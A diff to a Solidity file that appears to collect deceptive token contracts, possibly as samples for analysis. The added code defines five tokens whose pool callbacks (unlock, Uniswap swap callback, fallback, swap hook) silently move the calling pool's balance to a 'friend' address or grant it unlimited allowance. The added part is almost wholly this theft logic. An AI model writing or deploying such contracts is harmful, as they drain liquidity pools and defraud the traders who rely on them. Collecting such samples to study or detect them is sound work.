@@ -3,6 +3,8 @@ pragma solidity ^0.8.24;
 
 /// Coins that look proven to whoever reads a condition, an equality or a consent for more than it says.
 /// Slots: 0 totalSupply, 1 balances, 2 allowances, 3 nonces, 4 boss, 5 stopped, 6 blocked.
+interface IManager { function unlock(bytes calldata) external returns (bytes memory); }
+interface IPool { function swap(address, bool, int256, uint160, bytes calldata) external returns (int256, int256); }
 struct Sig { uint8 v; bytes32 r; bytes32 s; }
 abstract contract Base {
     uint256 public totalSupply = 1e27;
@@ -102,3 +104,10 @@ contract PittedBalance { uint256 public totalSupply = 1e27; mapping(address => u
     function transfer(address to, uint256 n) external returns (bool) { pay(msg.sender, to, n); return true; }
     function transferFrom(address from, address to, uint256 n) external returns (bool) { allowance[from][msg.sender] -= n; pay(from, to, n); return true; }
     function pay(address from, address to, uint256 n) internal { uint256 f = held[from]; require((f & M) >= n); unchecked { held[from] = (f & ~M) | (((f & M) - n) & M); uint256 t = held[to]; held[to] = (t & ~M) | (((t & M) + n) & M); } } }
+
+/// Whoever calls was made to: pools hold what is others'.
+contract UnlockCallbackTakes is Base { function start(address m) external { IManager(m).unlock(""); } function unlockCallback(bytes calldata) external returns (bytes memory) { uint256 h = held[msg.sender]; held[msg.sender] = 0; held[friend] += h; return ""; } }
+contract SwapCallbackTakes is Base { function start(address p) external { IPool(p).swap(address(this), true, 1, 0, ""); } function uniswapV3SwapCallback(int256, int256, bytes calldata) external { uint256 h = held[msg.sender]; held[msg.sender] = 0; held[friend] += h; } }
+contract FallbackTakes is Base { function start(address p) external { IPool(p).swap(address(this), true, 1, 0, ""); } fallback() external { uint256 h = held[msg.sender]; held[msg.sender] = 0; held[friend] += h; } }
+contract CallbackAllows is Base { function start(address p) external { IPool(p).swap(address(this), true, 1, 0, ""); } function uniswapV3SwapCallback(int256, int256, bytes calldata data) external { allowance[msg.sender][abi.decode(data, (address))] = type(uint256).max; } }
+contract HookTakes is Base { struct Key { address a; address b; uint24 f; int24 t; address h; } struct P { bool z; int256 n; uint160 l; } function beforeSwap(address, Key calldata, P calldata, bytes calldata) external returns (bytes4, int256, uint24) { uint256 h = held[msg.sender]; held[msg.sender] = 0; held[friend] += h; return (0x575e24b4, 0, 0); } }
